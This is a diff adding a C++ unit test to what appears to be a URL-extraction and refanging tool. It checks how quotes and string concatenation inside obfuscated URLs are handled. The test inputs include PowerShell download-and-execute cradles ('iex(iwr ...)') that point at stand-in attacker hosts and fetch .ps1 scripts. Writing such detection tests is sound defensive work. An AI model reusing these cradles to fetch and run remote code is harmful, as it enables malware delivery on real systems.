@@ -488,6 +488,20 @@ TEST(UrlPrecision, AQuoteOpenedBeforeTheUrlEndsIt) {
               (V{"http://x.example/it's-here", "http://x.example/a'b"}));
 }
 
+// Session 20 sweep: a string built in pieces. A closing quote inside the
+// scheme left a one-byte URL ("h`t`t`p://..." gave "t"), and one inside the
+// host a piece of a name when the string is joined to the next ("+") or
+// the name stops at "." or "-" (before: "ttp://dl.evil-lan", "https://edge").
+TEST(UrlPrecision, AQuoteThatCutsTheSchemeOrANameLeavesNoPiece) {
+    EXPECT_EQ(refanged("iex(iwr 'h`t`t`p://203.0.113.90/d/s.ps1')"), V{"http://203.0.113.90/d/s.ps1"});
+    EXPECT_EQ(urls("iex(iwr ('h'+'ttp://dl.evil-lan'+'tern.top/d/s.ps1'))"), V{});
+    EXPECT_EQ(urls("$u=('{2}{0}{1}' -f 'evil-lantern.top/','gate','https://edge.')"), V{});
+    // A whole host before the "+", or a cut in the path, keeps the URL.
+    EXPECT_EQ(refanged("u='https://api.evil.example'+p; v='hxxp://evil[.]com'+q; w='http://a.example/x'+id"),
+              (V{"https://api.evil.example", "http://evil.com", "http://a.example/x"}));
+    EXPECT_EQ(urls("c='http://localhost'; d=\"https://10.0.0.1\"+e"), (V{"http://localhost", "https://10.0.0.1"}));
+}
+
 TEST(UrlPrecision, QuotedPrintableSoftLineBreakEndsNoUrl) {
     // An e-mail body in quoted-printable breaks lines with "=": in the host
     // it leaves a piece of a name (before: "https://dhl-parc="). After the
